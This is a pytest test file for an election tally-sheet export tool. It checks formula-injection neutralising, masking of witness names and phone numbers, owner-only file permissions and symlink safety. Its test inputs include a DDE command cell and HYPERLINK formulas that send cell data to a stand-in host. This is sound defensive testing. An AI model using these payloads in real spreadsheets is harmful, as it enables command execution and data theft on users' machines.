"""Export: OWASP neutralising, masking of personal columns in every tab, owner-only files, no
formula in a workbook (unit); files via the emulator in test_cli_commands and test_security_export."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from sheetsync.core.config import load_preset
from sheetsync.reports.export import MASK, _write_csv, _write_xlsx, mask_rows, unique_names
from sheetsync.core.safetext import neutralise


@pytest.mark.parametrize("text", ["=1+1", "+62 812", "-3+1", "@SUM(A1)", "\tx", "\rx",
                                  '=HYPERLINK("http://evil","klik")', "\n=1+1", " =1+1", "\u3000=1",
                                  "＝1+1", "＋62", "＠SUM(A1)", "－1+1"])
def test_formula_starts_are_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text, inert", [("\x07=HYPERLINK(\"http://x?d=\"&Q2&P2)", "'=HYPERLINK(\"http://x?d=\"&Q2&P2)"),
                                         ("\x1b=1+1", "'=1+1"), ("\x1b]0;x\x07=1", "]0;x=1"),
                                         ("\x9b=1", "'=1")])
def test_control_characters_are_stripped_before_neutralising(text: str, inert: str) -> None:
    assert neutralise(text) == inert


@pytest.mark.parametrize("value", ["Kapuk", "12", 12, -3, 1.5, None, "", "a=b", "-5", "+62812345", "-1,234.5",
                                   "-", "Jl. Kapuk - Gg. 3"])
def test_other_values_untouched(value) -> None:
    assert neutralise(value) == value


def test_personal_columns_masked_by_header_text_and_alias() -> None:
    config = load_preset("pilkada-jakbar-2024")
    values = [["Kecamatan", "no tps", "  nama   SAKSI ", "WA Saksi", "DPT"],
              ["Cengkareng", "1", "Budi", "0812-3456-7890", "300"],
              ["Cengkareng", "2", "", "", "310"]]
    masked, columns = mask_rows(values, config)
    assert columns == ["  nama   SAKSI ", "WA Saksi"]
    assert masked[1] == ["Cengkareng", "1", MASK, MASK, "300"]
    assert masked[2] == ["Cengkareng", "2", "", "", "310"]          # blank stays blank
    assert values[1][2] == "Budi"                                     # input not modified


def test_csv_and_xlsx_never_hold_a_formula(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    rows = [["a", "b"], [neutralise("=cmd|' /C calc'!A0"), 5]]
    _write_csv(tmp_path / "x.csv", rows)
    with (tmp_path / "x.csv").open(encoding="utf-8-sig") as fh:
        got = list(csv.reader(fh))
    assert got[1][0].startswith("'=")
    _write_xlsx(tmp_path / "x.xlsx", {"Tab": rows + [["=2+2"]]}, None)
    ws = load_workbook(tmp_path / "x.xlsx")["Tab"]
    assert ws["A2"].data_type == "s" and ws["A2"].value.startswith("'=")
    assert ws["A3"].data_type == "s" and ws["A3"].value == "'=2+2"
    assert ws["B2"].value == 5


def test_every_export_file_is_owner_only_whatever_the_umask(tmp_path: Path) -> None:
    import os
    import stat

    old = os.umask(0o000)
    try:
        _write_csv(tmp_path / "p.csv", [["a"]])
        _write_xlsx(tmp_path / "p.xlsx", {"T": [["a"]]}, None)
    finally:
        os.umask(old)
    mode = lambda name: stat.S_IMODE((tmp_path / name).stat().st_mode)  # noqa: E731
    assert mode("p.csv") == 0o600 and mode("p.xlsx") == 0o600        # masked or not: a tab may hold names


def test_an_export_never_writes_through_a_planted_symlink(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere.txt"
    target.write_text("keep")
    (tmp_path / "x.csv").symlink_to(target)
    with pytest.raises(OSError):
        _write_csv(tmp_path / "x.csv", [["a"]])
    assert target.read_text() == "keep"


def test_clashing_names_get_a_suffix() -> None:
    assert unique_names(["masalah", "masalah", "tps", "masalah"]) == ["masalah", "masalah-2", "tps", "masalah-3"]
    long = ["R" * 40, "r" * 31]
    assert unique_names(long, limit=31) == ["R" * 31, "r" * 29 + "-2"]


def test_personal_columns_masked_in_any_tab_below_any_header_row() -> None:
    config = load_preset("pilkada-jakbar-2024")
    rekap = [["Koordinator", "Kecamatan", "TPS Masuk"], ["Budi Santoso", "Cengkareng", 12]]
    masked, columns = mask_rows(rekap, config)
    assert masked[1] == [MASK, "Cengkareng", 12] and columns == ["Koordinator"]
    english = [["Coordinator", "Kecamatan"], ["Budi Santoso", "Cengkareng"]]
    assert mask_rows(english, config)[0][1] == [MASK, "Cengkareng"]
    copied = [["Salinan 27 Nov"], [], ["No TPS", "Saksi", "HP Saksi"], ["1", "Siti", "0812"]]
    masked, _ = mask_rows(copied, config)
    assert masked[3] == ["1", MASK, MASK] and masked[:3] == copied[:3]


def test_a_workbook_of_hostile_cells_holds_no_formula(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    hostile = ['\x07=HYPERLINK("http://x/?d="&Q2&P2,"klik")', "\x1b=1+1", "=2+2", "-5", 7, 2.5]
    _write_xlsx(tmp_path / "h.xlsx", {"TPS": [[neutralise(v) for v in hostile], hostile]}, None)
    ws = load_workbook(tmp_path / "h.xlsx")["TPS"]
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type == ("n" if isinstance(cell.value, (int, float)) else "s"), cell.coordinate
    assert [c.value for c in ws[1]] == ["'=HYPERLINK(\"http://x/?d=\"&Q2&P2,\"klik\")", "'=1+1", "'=2+2", "-5", 7, 2.5]


def test_a_double_entry_sheet_exports_both_entries_as_typed_and_masks_the_same(emu, tmp_path: Path) -> None:
    """Export archives tabs as they stand: the second team's tab is one more tab, its counts
    as typed (the export holds no computed per-TPS table, so no double_checked column), and
    the personal columns masked are exactly those of the same sheet without double entry."""
    from dataclasses import replace
    from datetime import datetime

    from coordinators import coordinator
    from sync_data import config_for, seed
    from test_double_entry_sync import first_entry, second_entry

    from sheetsync.core.config import DoubleEntry
    from sheetsync.reports.export import export

    first = first_entry()
    sh = seed(emu.client(), first)
    typed = second_entry(first)
    coordinator(emu, sh, who="tim-entri-kedua").add_worksheet("Entri Kedua", rows=20, cols=10).update(typed, "A1")
    single = config_for(sh, emu)
    double = replace(single, double_entry=DoubleEntry(tab="Entri Kedua"))
    at = datetime(2024, 11, 27, 21, 0)
    one = export(single, tmp_path / "single", client=emu.client(), now=at)
    two = export(double, tmp_path / "double", client=emu.client(), now=at)
    assert [t.tab for t in two.tabs] == ["TPS", "Entri Kedua"] and two.masked_columns == one.masked_columns
    assert two.masked_columns == ["Koordinator"]
    for a, b in zip(one.files, two.files):
        assert Path(a).read_bytes() == Path(b).read_bytes()
    second = next(t.path for t in two.tabs if t.tab == "Entri Kedua")
    with open(second, encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh)) == typed
    tps = next(t.path for t in two.tabs if t.tab == "TPS")
    with open(tps, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == first[0] and {r[-1] for r in rows[1:]} == {MASK}
